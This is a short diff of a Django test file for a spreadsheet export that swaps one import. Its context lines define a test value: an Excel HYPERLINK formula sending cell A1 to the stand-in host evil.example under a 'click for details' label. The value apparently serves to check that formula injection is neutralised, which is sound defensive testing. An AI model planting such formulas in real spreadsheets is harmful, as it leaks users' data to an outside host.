@@ -9,7 +9,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from zhifa import testing
+import zhifa_testing as testing
 from zhifa.registry.models import Enterprise
 
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看详情")'
